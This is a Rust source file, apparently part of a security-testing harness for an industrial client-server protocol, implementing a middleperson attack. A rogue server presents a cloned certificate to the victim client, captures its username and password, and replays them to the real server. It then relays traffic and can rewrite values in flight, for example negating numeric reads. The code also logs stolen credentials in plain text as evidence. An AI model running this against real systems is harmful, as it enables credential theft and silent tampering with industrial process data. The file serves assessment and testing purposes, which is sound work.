//! Middleperson: a rogue server toward the victim client and a rogue
//! client toward the real server, run concurrently. Captured credentials
//! are replayed upstream, after which victim traffic is relayed in both
//! directions with optional in-flight manipulation.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Condvar, Mutex};
use std::time::Duration;

use crate::client::{self, ClientConfig, ClientError, Session, UserIdentity};
use crate::codec::{NodeId, ServiceBody, Value};
use crate::pki::{generate_identity, Identity, TrustPolicy, TrustStore};
use crate::server::ServerHooks;

use super::rogue_server::{rogue_server, RogueServerHandle, RogueServerOptions};
use super::{
    AttackKind, AttackOutcome, AttackResult, CapturedCredential, Evidence, EvidenceKind,
    TargetDescriptor,
};

type ValueRewrite = dyn Fn(&NodeId, Value) -> Value + Send + Sync;

/// In-flight rewrites applied while relaying victim traffic.
#[derive(Clone, Default)]
pub struct ManipulationHooks {
    /// Applied to every value relayed back to the victim from a read.
    pub on_read: Option<Arc<ValueRewrite>>,
    /// Applied to every value the victim writes before it reaches the
    /// real server.
    pub on_write: Option<Arc<ValueRewrite>>,
}

pub struct MiddlepersonOptions {
    pub listen: SocketAddr,
    pub hooks: ManipulationHooks,
    /// Identity for the upstream (rogue client) leg. Defaults to a fresh
    /// self-signed certificate.
    pub upstream_identity: Option<Identity>,
    /// Credentials to use upstream in place of captured ones, for the
    /// forwarding-only variant.
    pub credentials_override: Option<(String, String)>,
    pub transcript_dir: Option<PathBuf>,
}

impl Default for MiddlepersonOptions {
    fn default() -> Self {
        MiddlepersonOptions {
            listen: "127.0.0.1:0".parse().expect("static addr"),
            hooks: ManipulationHooks::default(),
            upstream_identity: None,
            credentials_override: None,
            transcript_dir: None,
        }
    }
}

#[derive(Default)]
struct Counters {
    requests_forwarded: AtomicU64,
    responses_relayed: AtomicU64,
    bytes_upstream: AtomicU64,
    bytes_downstream: AtomicU64,
}

struct Shared {
    target: TargetDescriptor,
    upstream_identity: Identity,
    hooks: ManipulationHooks,
    upstream: Mutex<Option<Session>>,
    upstream_ready: Condvar,
    /// Set once a replay thread has been spawned, so the proxy knows to
    /// wait rather than fall back to fabricated data.
    replay_started: AtomicBool,
    replay_succeeded: AtomicBool,
    replay_rejected_auth: AtomicBool,
    counters: Counters,
    notes: Mutex<Vec<String>>,
    evidence: Mutex<Vec<Evidence>>,
}

impl Shared {
    fn note(&self, note: impl Into<String>) {
        self.notes.lock().expect("notes poisoned").push(note.into());
    }

    fn push_evidence(&self, evidence: Evidence) {
        self.evidence.lock().expect("evidence poisoned").push(evidence);
    }

    /// Establish the upstream session with the given user identity.
    fn connect_upstream(self: &Arc<Self>, user: UserIdentity, replayed: bool) {
        let Some(endpoint) = client::select_most_secure(&self.target.endpoints) else {
            self.note("target advertises no endpoints; upstream leg impossible".into());
            self.upstream_ready.notify_all();
            return;
        };
        let mut config = ClientConfig::new();
        config.identity = Some(self.upstream_identity.clone());
        config.trust_policy = TrustPolicy::AcceptAll;
        config.trust_store = Arc::new(Mutex::new(TrustStore::new()));
        config.user_identity = user;
        config.application_uri = self.upstream_identity.certificate.application_uri.clone();

        match client::connect(endpoint, &config) {
            Ok(session) => {
                if replayed {
                    self.replay_succeeded.store(true, Ordering::SeqCst);
                    self.push_evidence(Evidence::new(
                        EvidenceKind::SessionReplayed,
                        format!(
                            "stolen credentials activated a session on {} (session {})",
                            self.target.url(),
                            session.session_id
                        ),
                    ));
                }
                *self.upstream.lock().expect("upstream poisoned") = Some(session);
            }
            Err(ClientError::AuthFailed(status)) if replayed => {
                self.replay_rejected_auth.store(true, Ordering::SeqCst);
                self.note(format!("real server rejected the stolen credentials: {status}"));
            }
            Err(e) => {
                self.note(format!("upstream connection failed: {e}"));
            }
        }
        self.upstream_ready.notify_all();
    }

    /// Wait for the replay thread to finish establishing upstream, if one
    /// is running.
    fn wait_upstream(&self) -> bool {
        let deadline = Duration::from_secs(10);
        let guard = self.upstream.lock().expect("upstream poisoned");
        if guard.is_some() {
            return true;
        }
        if !self.replay_started.load(Ordering::SeqCst) {
            return false;
        }
        let (guard, _) = self
            .upstream_ready
            .wait_timeout_while(guard, deadline, |upstream| upstream.is_none())
            .expect("upstream poisoned");
        guard.is_some()
    }

    fn forward(&self, body: &ServiceBody) -> Option<ServiceBody> {
        if !self.wait_upstream() {
            return None;
        }
        let mut guard = self.upstream.lock().expect("upstream poisoned");
        let session = guard.as_mut()?;

        let mut upstream_body = body.clone();
        match &mut upstream_body {
            ServiceBody::ReadRequest(request) => {
                request.header = session.request_header();
            }
            ServiceBody::WriteRequest(request) => {
                request.header = session.request_header();
                if let Some(on_write) = &self.hooks.on_write {
                    for write in &mut request.writes {
                        write.value = on_write(&write.node, write.value.clone());
                    }
                }
            }
            // Opaque services are forwarded untouched; their auth tokens
            // belong to the victim's session and the real server will
            // judge them.
            ServiceBody::Unknown { .. } => {}
            _ => return None,
        }

        let request_bytes = upstream_body.encode().len() as u64;
        let response = match session.call_raw(&upstream_body) {
            Ok(response) => response,
            Err(e) => {
                self.note(format!("forwarding failed: {e}"));
                *guard = None;
                return None;
            }
        };
        let response_bytes = response.encode().len() as u64;
        self.counters.requests_forwarded.fetch_add(1, Ordering::SeqCst);
        self.counters.responses_relayed.fetch_add(1, Ordering::SeqCst);
        self.counters.bytes_upstream.fetch_add(request_bytes, Ordering::SeqCst);
        self.counters.bytes_downstream.fetch_add(response_bytes, Ordering::SeqCst);

        let mut response = response;
        if let ServiceBody::ReadResponse(read_response) = &mut response {
            if let Some(on_read) = &self.hooks.on_read {
                if let ServiceBody::ReadRequest(request) = body {
                    for (node, result) in request.nodes.iter().zip(&mut read_response.results) {
                        if let Some(value) = result.value.take() {
                            result.value = Some(on_read(node, value));
                        }
                    }
                }
            }
        }
        Some(response)
    }
}

/// A running middleperson. The victim-facing rogue server is reachable at
/// [`MiddlepersonHandle::url`]; the upstream leg starts as soon as
/// credentials are captured (or immediately, in the forwarding-only
/// variant with an anonymous or overridden identity).
pub struct MiddlepersonHandle {
    rogue: RogueServerHandle,
    shared: Arc<Shared>,
}

pub fn middleperson(
    target: &TargetDescriptor,
    options: MiddlepersonOptions,
) -> Result<MiddlepersonHandle, super::AttackError> {
    let upstream_identity = match options.upstream_identity {
        Some(identity) => identity,
        None => generate_identity("Nondescript", "urn:nondescript:client", 365, 2048)?,
    };

    let shared = Arc::new(Shared {
        target: target.clone(),
        upstream_identity,
        hooks: options.hooks,
        upstream: Mutex::new(None),
        upstream_ready: Condvar::new(),
        replay_started: AtomicBool::new(false),
        replay_succeeded: AtomicBool::new(false),
        replay_rejected_auth: AtomicBool::new(false),
        counters: Counters::default(),
        notes: Mutex::new(Vec::new()),
        evidence: Mutex::new(Vec::new()),
    });

    // Credential capture triggers the rogue-client leg in its own thread.
    let replay_shared = Arc::clone(&shared);
    let credentials_override = options.credentials_override.clone();
    let on_credential = Arc::new(move |observed: crate::server::ObservedCredential| {
        if replay_shared.replay_started.swap(true, Ordering::SeqCst) {
            return;
        }
        let (username, password) = credentials_override
            .clone()
            .unwrap_or((observed.username.clone(), observed.password.clone()));
        let shared = Arc::clone(&replay_shared);
        std::thread::spawn(move || {
            shared.connect_upstream(UserIdentity::UserName { username, password }, true);
        });
    });

    let proxy_shared = Arc::clone(&shared);
    let service_proxy = Arc::new(move |body: &ServiceBody| -> Option<ServiceBody> {
        // Forwarding-only variant: no credentials will ever arrive, so
        // bring the upstream leg up anonymously on first demand.
        if !proxy_shared.replay_started.load(Ordering::SeqCst)
            && proxy_shared.upstream.lock().expect("upstream poisoned").is_none()
        {
            if !proxy_shared.replay_started.swap(true, Ordering::SeqCst) {
                proxy_shared.note(
                    "no credentials captured yet; connecting upstream anonymously \
                     (forwarding-only variant)",
                );
                let shared = Arc::clone(&proxy_shared);
                std::thread::spawn(move || {
                    shared.connect_upstream(UserIdentity::Anonymous, false);
                });
            }
        }
        proxy_shared.forward(body)
    });

    let rogue = rogue_server(
        target,
        RogueServerOptions {
            listen: options.listen,
            fabricator: Some(super::rogue_server::default_fabricator()),
            transcript_dir: options.transcript_dir,
            extra_hooks: ServerHooks {
                accept_any_user: true,
                on_credential: Some(on_credential),
                read_override: None,
                service_proxy: Some(service_proxy),
            },
        },
    )?;

    Ok(MiddlepersonHandle { rogue, shared })
}

impl MiddlepersonHandle {
    pub fn url(&self) -> String {
        self.rogue.url()
    }

    pub fn local_addr(&self) -> SocketAddr {
        self.rogue.local_addr()
    }

    pub fn captured(&self) -> Vec<CapturedCredential> {
        self.rogue.captured()
    }

    /// Assemble the attack outcome from everything observed so far.
    pub fn outcome(&self) -> AttackOutcome {
        let mut evidence = Vec::new();
        let mut notes = self.shared.notes.lock().expect("notes poisoned").clone();

        // Any secure channel the victim opened toward the cloned
        // certificate means its trust gate fell.
        let victim_acceptances = self.rogue.acceptances();
        if !victim_acceptances.is_empty() {
            evidence.push(Evidence::new(
                EvidenceKind::UntrustedChannelAccepted,
                format!(
                    "victim client completed a secure channel to the cloned certificate \
                     ({} connection(s))",
                    victim_acceptances.len()
                ),
            ));
        }
        for credential in self.captured() {
            evidence.push(Evidence::new(
                EvidenceKind::CredentialCaptured,
                format!(
                    "captured credential {}:{} via {}",
                    credential.username, credential.password, credential.token_policy_uri
                ),
            ));
        }
        evidence.extend(self.shared.evidence.lock().expect("evidence poisoned").clone());

        let requests = self.shared.counters.requests_forwarded.load(Ordering::SeqCst);
        if requests > 0 {
            evidence.push(Evidence::new(
                EvidenceKind::ForwardedTraffic,
                format!(
                    "forwarded {requests} requests / {} responses, {} bytes up, {} bytes down",
                    self.shared.counters.responses_relayed.load(Ordering::SeqCst),
                    self.shared.counters.bytes_upstream.load(Ordering::SeqCst),
                    self.shared.counters.bytes_downstream.load(Ordering::SeqCst),
                ),
            ));
        }

        let result = if self.shared.replay_rejected_auth.load(Ordering::SeqCst) {
            // The stolen credentials were refused upstream: the capture
            // stands but the replay claim cannot be decided.
            AttackResult::Inconclusive
        } else if evidence.is_empty() {
            AttackResult::Secure
        } else {
            AttackResult::Vulnerable
        };
        if result == AttackResult::Secure {
            notes.push("victim never progressed past discovery with the rogue server".into());
        }

        AttackOutcome {
            attack: AttackKind::Middleperson,
            result,
            evidence,
            notes,
            transcript: None,
        }
    }

    pub fn stop(self) {
        if let Some(session) = self.shared.upstream.lock().expect("upstream poisoned").take() {
            session.close();
        }
        self.rogue.stop();
    }
}

/// Rewrite helper shared by tests and the harness: negate any numeric
/// value read from the given node.
pub fn negate_node_reads(node: NodeId) -> ManipulationHooks {
    ManipulationHooks {
        on_read: Some(Arc::new(move |read_node, value| {
            if *read_node == node {
                match value {
                    Value::Double(v) => Value::Double(-v),
                    Value::Float(v) => Value::Float(-v),
                    other => other,
                }
            } else {
                value
            }
        })),
        on_write: None,
    }
}
